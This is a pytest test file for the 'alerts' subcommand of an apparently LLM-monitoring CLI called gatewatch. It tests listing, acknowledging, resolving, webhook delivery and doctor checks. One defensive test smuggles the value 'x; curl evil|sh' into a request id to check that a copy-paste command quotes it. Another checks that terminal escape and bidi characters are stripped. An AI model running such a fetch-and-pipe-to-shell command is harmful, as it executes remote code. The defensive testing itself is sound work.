"""`gatewatch alerts`: what is open, what is done about it, and whether word of it arrives."""

import json
from contextlib import closing
from pathlib import Path

import pytest
from msgspec.structs import replace

from cli.building import run
from cli.traffic import TOML, project
from gatewatch.config.monitors import store_of
from gatewatch.config.project import Project
from gatewatch.core.clock import wall
from gatewatch.core.watch import Alert, Severity
from gatewatch.store.base import Store
from gatewatch.store.watching import WatchStep
from online.receiving import Answer, Receiver, an_alert

RULES = '\n[monitors.support.alert.rules]\npolite = { to = ["webhook:$HOOK"] }\n'


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("COLUMNS", "100")
    return project(tmp_path, TOML + RULES)


def opened(here: Path) -> Store:
    return store_of(Project.open(here))


def found(here: Path, *alerts: Alert) -> None:
    """Have a monitor find alerts."""
    with closing(opened(here)) as store:
        step = store.unheard({}, 1).read_at
        assert store.keep(WatchStep(read_at=step, alerts=alerts), wall())


def recent(number: int = 1, severity: Severity = "ticket", **more: str) -> Alert:
    alert = an_alert(number, severity=severity, **more)  # type: ignore[arg-type]
    evidence = replace(alert.evidence, onset=wall() - 10_900)
    return replace(alert, opened=wall() - 7300, updated=wall(), evidence=evidence)


def test_nothing_is_wrong(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "alerts") == (0, "no alert is open\n", "")
    assert json.loads(run(capsys, "alerts", "--json")[1]) == {"kind": "gatewatch.alerts", "version": 1, "alerts": []}


def test_without_monitors_that_is_said(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project(here, "[project]\nname = 'bot'\n")
    _, out, _ = run(capsys, "alerts")
    assert out == "no alert is open: nothing is watched ([monitors] names none)\n"


def test_what_is_open_newest_first_with_what_was_found(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    found(here, recent(1), recent(2, "page", title="pii: 1 conversation", flow="other"))
    code, out, _ = run(capsys, "alerts")
    assert code == 0
    assert [line.rstrip() for line in out.splitlines()] == [
        "✕ page   2  other: pii: 1 conversation",
        "         open, opened 2 h ago · began about 3 h ago · −4.1 points [−6.0, −2.2], 412 conversations ·",
        "         support team",
        "! ticket 1  support: helpful fell by 4.1 points",
        "         open, opened 2 h ago · began about 3 h ago · −4.1 points [−6.0, −2.2], 412 conversations ·",
        "         support team",
        "! 2 notices are not delivered: `gatewatch alerts undelivered`",
    ]
    _, only, _ = run(capsys, "alerts", "--flow", "other", "--json")
    (alert,) = json.loads(only)["alerts"]
    assert (alert["id"], alert["flow"], alert["to"]) == (2, "other", ["webhook:hooks.example/..."])


def test_one_whole_with_what_to_do(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    found(here, recent())
    code, out, _ = run(capsys, "alerts", "show", "1")
    assert code == 0
    assert out.splitlines()[0] == "! ticket support: helpful fell by 4.1 points"
    assert "0.871 → 0.830, −4.1 points [−6.0, −2.2], 412 conversations" in out
    assert "slice refunds: −9.2 points [−15.0, −3.0], 80 conversations, 12% of traffic" in out
    assert "model=gpt-5-mini, prompt=4 by ci" in out
    assert "https://wiki.example/helpful" in out
    assert f"gatewatch why {'4f' * 16}" in out
    assert "webhook:hooks.example/..." in out
    assert "SECRET" not in out
    assert json.loads(run(capsys, "alerts", "show", "1", "--json")[1])["alert"]["evidence"]["n"] == 412


def test_its_life_is_kept_with_who_and_why_and_audited(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    found(here, recent())
    assert run(capsys, "alerts", "ack", "1")[1] == "alert 1 is acknowledged\n"
    assert run(capsys, "alerts", "snooze", "1", "--for", "2h", "--reason", "known")[1].startswith(
        "alert 1 is snoozed until 20"
    )
    assert "for 119 min more" in run(capsys, "alerts")[1]
    assert run(capsys, "alerts", "resolve", "1", "--reason", "prompt put back")[1] == "alert 1 is resolved\n"
    assert run(capsys, "alerts")[1].startswith("no alert is open")
    (alert,) = json.loads(run(capsys, "alerts", "--all", "--json")[1])["alerts"]
    assert (alert["state"], alert["reason"]) == ("resolved", "prompt put back")
    assert alert["who"]
    assert run(capsys, "alerts", "reopen", "1")[1] == "alert 1 is open\n"
    with closing(opened(here)) as store:
        noted = [(each.action, each.what) for each in store.audit(0.0, 10)]
    assert noted == [
        ("alert open", "1"),
        ("alert resolved", "1"),
        ("alert snoozed", "1"),
        ("alert acknowledged", "1"),
    ]


def test_what_was_resolved_is_not_opened_beside_another_of_its_cause(
    here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    found(here, recent())
    run(capsys, "alerts", "resolve", "1", "--reason", "x")
    found(here, recent())
    code, _, err = run(capsys, "alerts", "reopen", "1")
    assert code == 2
    assert err == ("error: 1: stays resolved: another alert of the same cause is open (`gatewatch alerts` lists it)\n")


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (("show", "7"), "error: 7: there is no such alert (there was none yet)"),
        (("ack", "7"), "error: 7: there is no such alert (there was none yet)"),
        (("snooze", "1", "--for", "long"), "Error: Invalid value for --for: expected a duration"),
        (("snooze", "1", "--for", "30000d"), "Error: Invalid value for --for: must be a year at most, got '30000d'"),
        (("snooze", "1", "--for", "99999999999d"), "Error: Invalid value for --for: expected a duration of 100 years"),
        (("resolve", "1"), "Error: Missing option '--reason'"),
        (("test", "pager:x"), "Error: Invalid value for CHANNEL: 'pager' is no kind of channel"),
        (("show", "0"), "Error: Invalid value for 'N'"),
    ],
)
def test_what_cannot_be_done_is_said(
    here: Path, capsys: pytest.CaptureFixture[str], words: tuple[str, ...], says: str
) -> None:
    code, _, err = run(capsys, "alerts", *words)
    assert code == 2
    assert says in err


def test_channels_are_tried(here: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    with Receiver() as receiver:
        monkeypatch.setenv("HOOK", f"{receiver.url}/SECRET")
        assert run(capsys, "alerts", "test") == (0, "✓ webhook:$HOOK took it\n", "")
        receiver.answer = lambda _: Answer(404, text="no hook")
        code, out, _ = run(capsys, "alerts", "test", f"slack:{receiver.url}/SECRET", "--json")
    assert code == 4
    (told,) = json.loads(out)["channels"]
    assert told == {"to": "slack:127.0.0.1/...", "taken": False, "reason": "status 404: no hook"}
    assert b"this is a test" in receiver.received[0].body


def test_to_try_channels_there_must_be_one(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project(here, TOML)
    code, _, err = run(capsys, "alerts", "test")
    assert (code, "the project names no channel" in err) == (2, True)


def test_what_was_not_delivered_is_listed_and_the_doctor_says_so(
    here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(capsys, "alerts", "undelivered")[1] == "everything was delivered\n"
    assert run(capsys, "doctor")[0] == 0
    found(here, recent())
    assert run(capsys, "doctor")[0] == 0  # it was not tried yet
    with closing(opened(here)) as store:
        (notice,) = store.notices("w", wall(), wall() + 60, 10)
        store.told(notice.id, wall(), retry_at=wall() + 900, reason="status 404: no hook")
    _, out, _ = run(capsys, "alerts", "undelivered")
    assert out.splitlines()[1].split() == [
        "1",
        "opened",
        "webhook:hooks.example/...",
        "1",
        "status",
        "404:",
        "no",
        "hook",
    ]
    (told,) = json.loads(run(capsys, "alerts", "undelivered", "--json")[1])["notices"]
    assert (told["to"], told["reason"], told["alert"]) == ("webhook:hooks.example/...", "status 404: no hook", 1)
    code, out, _ = run(capsys, "doctor")
    assert code == 2
    assert "✕ alerts: webhook:hooks.example/...: 1 notice not delivered: status 404: no hook" in out


@pytest.mark.parametrize(
    ("request_id", "typed"),
    [("x; curl evil|sh", "gatewatch why 'x; curl evil|sh'"), ("--help", "gatewatch why -- --help")],
)
def test_a_command_to_be_copied_runs_nothing_that_a_sender_chose(
    here: Path, capsys: pytest.CaptureFixture[str], request_id: str, typed: str
) -> None:
    alert = recent()
    found(here, replace(alert, evidence=replace(alert.evidence, traces=(request_id,))))
    assert typed in run(capsys, "alerts", "show", "1")[1]


def test_what_waits_for_a_channel_that_is_no_more_is_given_up(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    found(here, recent())
    code, _, err = run(capsys, "alerts", "undelivered", "--drop", "webhook:hooks.exampel/...")
    assert (code, err) == (
        2,
        "error: webhook:hooks.exampel/...: nothing waits for this channel "
        '(did you mean "webhook:hooks.example/..."?)\n',
    )
    _, out, _ = run(capsys, "alerts", "undelivered", "--drop", "webhook:hooks.example/...")
    assert out == "1 notice to webhook:hooks.example/... given up\n"
    assert run(capsys, "alerts", "undelivered")[1] == "everything was delivered\n"


def test_what_traffic_is_called_steers_no_terminal(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    found(here, recent(title="fell \x1b[31m\nand more", part="\u202eevil"))
    for words in ((), ("show", "1")):
        _, out, _ = run(capsys, "alerts", *words)
        assert "\x1b" not in out
        assert "\u202e" not in out
        assert "and more" in out.splitlines()[0]
